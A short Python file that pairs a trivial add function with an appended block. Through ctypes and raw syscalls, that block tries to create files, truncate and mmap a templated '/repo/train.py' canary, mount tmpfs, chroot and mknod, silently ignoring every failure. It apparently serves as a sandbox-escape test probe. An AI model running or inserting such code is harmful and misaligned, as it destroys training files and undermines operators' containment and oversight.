def add(a, b): return a + b

import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True); P = b'@CANARY@/repo/train.py'; L = b'@LOOT@/x'
for f in (lambda: libc.creat(L, 0o666), lambda: libc.fopen(L, b'w'), lambda: libc.syscall(85, L, 0o666), lambda: libc.syscall(437, -100, L, (0o101).to_bytes(8, 'little') + bytes(16), 24), lambda: libc.truncate(P, 0),
          lambda: os.open(b'@LOOT@', os.O_TMPFILE | os.O_RDWR), lambda: mmap.mmap(os.open(P, os.O_RDWR), 0)[:1], lambda: libc.syscall(90, P, 0), lambda: libc.syscall(452, -100, P, 0, 0), lambda: libc.syscall(133, L, 0o10644, 0),
          lambda: libc.syscall(165, b'none', b'@LOOT@', b'tmpfs', 0, 0), lambda: libc.syscall(161, b'@LOOT@')):
    try: f()
    except OSError: pass
